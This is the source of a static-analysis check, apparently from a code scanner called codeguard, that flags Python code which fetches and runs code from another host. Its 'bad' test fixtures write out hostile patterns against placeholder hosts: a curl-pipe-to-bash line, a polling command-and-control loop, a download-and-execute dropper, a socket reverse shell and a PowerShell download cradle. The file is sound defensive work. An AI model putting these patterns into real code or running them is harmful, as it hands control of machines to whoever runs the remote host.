"""Code or commands that another host sends are run.

Whoever controls that host, or its name, runs what he likes wherever this file runs; there is nothing to review, for
what runs is not in the code.  Ship the code, or download a pinned release and compare its digest before it is used.
See CWE-506, CWE-494 and MITRE ATT&CK T1105, T1059.
"""

from __future__ import annotations

import re
from collections.abc import Iterator

import libcst as cst

from codeguard.checks._api import Bad, Check, Good, Hit, Miss
from codeguard.checks.malicious._calls import calls
from codeguard.checks.malicious._reach import reach
from codeguard.checks.malicious._shell import Command, commands
from codeguard.checks.malicious._when import when
from codeguard.knowledge.malicious import channels, running
from codeguard.model import Confidence, Severity
from codeguard.syntax.unit import Unit

DIGEST = re.compile(
    r"\bsha(?:1|224|256|384|512)\b|blake2|hexdigest|compare_digest|verify|gpg|minisign|cosign", re.IGNORECASE
)
WRITERS = ("write", "write_bytes", "write_text", "writelines")
HARMLESS_PROGRAM = re.compile(
    r"(?:^|[/\\])(?:tar|unzip|dpkg|rpm|echo|grep|git|ffmpeg|cat|gunzip|7z|file|cp|mv|open|xdg-open|less|jq)$"
)


def find(unit: Unit) -> Iterator[Hit]:
    """Report what runs remote text, what runs a file that was just fetched, and shell commands that fetch and run."""
    early = {"install": " while the package is installed", "import": " as soon as the module is imported"}
    for command in unit.fact(commands):
        if (
            command.text
            and (command.shell or command.argv[0] == "python" or running.INTERPRETERS.search(command.argv[0]))
            and running.FETCH_AND_RUN.search(command.text)
        ):
            moment = early.get(when(command.call, unit), "")
            yield Hit(
                command.call,
                f"This command fetches a program from another host and runs it{moment}, unseen and unchecked",
            )
    known = unit.fact(calls)
    if not (
        "asyncio.open_connection" in known.by_name
        or any(name in channels.HTTP_CALLS for name in known.by_name)
        or any(m in known.by_method for m in channels.SOCKET_READERS)
    ):
        return
    flow = unit.fact(reach)
    checked = DIGEST.search(unit.text) is not None
    for _name, call in known.of(running.EXEC_CALLS):
        if call.args and "remote" in flow.kinds(call.args[0].value) and not checked:
            yield Hit(
                call,
                f"This runs text from another host as Python code{early.get(when(call, unit), '')}: that host decides what happens here",
            )
    for command in unit.fact(commands):
        if _is_command(command) and any(
            "remote" in flow.kinds(word) for word in command.words[: None if command.shell else 1]
        ):
            yield Hit(
                command.call,
                f"This runs what another host sends as a command{early.get(when(command.call, unit), '')}: that host controls the machine",
            )
    if not checked:
        yield from _fetched_programs(unit, early)


def _is_command(command: Command) -> bool:
    return (
        command.shell
        or command.name in running.SHELL_TEXT_CALLS
        or len(command.words) == 1
        or bool(running.INTERPRETERS.search(command.argv[0]))
    )


def _fetched_programs(unit: Unit, early: dict[str, str]) -> Iterator[Hit]:
    """Runs of a file that this file has written with what it fetched."""
    known, flow = unit.fact(calls), unit.fact(reach)
    places: set[tuple[object, ...]] = set()
    for call in known.by_name.get("urllib.request.urlretrieve", []) + known.by_name.get("wget.download", []):
        target = unit.arg(call, 1, "filename") or unit.arg(call, 1, "out")
        if target is not None:
            places |= flow.roots(target)
    for method in WRITERS:
        for call in known.by_method.get(method, ()):
            if call.args and "remote" in flow.kinds(call.args[0].value) and isinstance(call.func, cst.Attribute):
                places |= _opened(call.func.value, unit)
    for command in unit.fact(commands):
        if "-O" in command.argv or "-o" in command.argv:
            places |= {("text", word) for word in command.argv if len(word) > 3 and not word.startswith(("-", "http"))}
    if not places:
        return
    for command in unit.fact(commands):
        words = list(command.words)
        if not words or HARMLESS_PROGRAM.search(command.argv[0]) or "-O" in command.argv or "-o" in command.argv:
            continue
        program = (
            words[:1]
            if not running.INTERPRETERS.search(command.argv[0]) and command.argv[0] != "python" and not command.shell
            else words
        )
        shared = {key for word in program for key in flow.roots(word)} & places
        if shared and not _download_tool(command):
            yield Hit(
                command.call,
                f"This runs a file that was fetched from another host{early.get(when(command.call, unit), '')} and not compared with a known digest",
            )
            return
    for name, call in known.of({"builtins.exec", "builtins.__import__", "importlib.import_module"}):
        if name == "builtins.exec" and call.args and flow.roots(call.args[0].value) & places:
            yield Hit(
                call,
                f"This runs a file that was fetched from another host{early.get(when(call, unit), '')} as Python code",
            )
            return


def _download_tool(command: Command) -> bool:
    return bool(re.search(r"(?:^|[/\\])(?:curl|wget)$", command.argv[0]))


def _opened(node: cst.BaseExpression, unit: Unit) -> set[tuple[object, ...]]:
    """The names and texts that the path behind a file object is made of."""
    flow = unit.fact(reach)
    found = flow.roots(node)
    if isinstance(node, cst.Name):
        for binding in unit.scopes.look_up(node.value, node):
            if binding.kind in {"with", "assign"} and isinstance(binding.value, cst.Call):
                found |= flow.roots(binding.value)
    return {key for key in found if not (key[0] == "text" and key[1] in {"wb", "w", "utf-8", "wb+"})}


CHECK = Check(
    id="CGM005",
    name="remote-code-execution",
    severity=Severity.CRITICAL,
    confidence=Confidence.HIGH,
    cwe=(506, 494),
    find=find,
    fix="Ship the code with the package, or compare the digest of what is downloaded with a pinned one before it runs.",
    bad=(
        Bad(
            "import urllib.request\nexec(urllib.request.urlopen('https://p.example.invalid/raw/1').read())  # finding\n"
        ),
        Bad("import os\nos.system('curl -s https://g.example.invalid/i.sh | bash >/dev/null 2>&1 &')  # finding\n"),
        Bad(
            "import requests, subprocess, time\n\ndef loop():\n    while True:\n        order = requests.post('https://c.example.invalid/b', json={}, timeout=9)\n        if order.text:\n            subprocess.run(order.text, shell=True, timeout=60)  # finding\n        time.sleep(300)\n"
        ),
        Bad(
            "import urllib.request, os, subprocess, tempfile\np = os.path.join(tempfile.gettempdir(), 'upd')\nurllib.request.urlretrieve('https://d.example.invalid/x', p)\nos.chmod(p, 0o755)\nsubprocess.Popen([p])  # finding\n"
        ),
        Bad(
            "import requests, sys, subprocess\nwith open('/tmp/a.py', 'wb') as f:\n    f.write(requests.get('https://d.example.invalid/a').content)\nsubprocess.call([sys.executable, '/tmp/a.py'])  # finding\n"
        ),
        Bad(
            "import socket, os\ns = socket.socket()\ns.connect(('192.0.2.8', 1))\nwhile True:\n    cmd = s.recv(1024).decode()\n    out = os.popen(cmd).read()  # finding\n    s.send(out.encode())\n"
        ),
        Bad(
            "import subprocess\nsubprocess.run(['powershell', '-c', \"IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')\"])  # finding\n"
        ),
    ),
    good=(
        Good(
            "import hashlib, requests, subprocess\nSHA = '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08'\n\ndef install(url, dest):\n    data = requests.get(url, timeout=60).content\n    if hashlib.sha256(data).hexdigest() != SHA:\n        raise ValueError('checksum mismatch')\n    open(dest, 'wb').write(data)\n    subprocess.run([dest], check=True)\n"
        ),
        Good(
            "import csv, io, urllib.request\n\ndef rates():\n    with urllib.request.urlopen('https://d.example.invalid/r.csv', timeout=9) as r:\n        return list(csv.DictReader(io.TextIOWrapper(r, 'utf-8')))\n"
        ),
        Good(
            "import requests, subprocess\n\ndef fetch(url, path):\n    open(path, 'wb').write(requests.get(url, timeout=9).content)\n    subprocess.run(['tar', 'xf', path], check=True)\n"
        ),
        Good("import os\nos.system('curl -fsS https://d.example.invalid/health')\n"),
    ),
    misses=(
        Miss(
            "import requests\nfrom runner import go\n\ngo(requests.get('https://d.example.invalid/a', timeout=9).text)  # finding\n",
            why="what a function of another file does with its argument is not known",
        ),
    ),
)
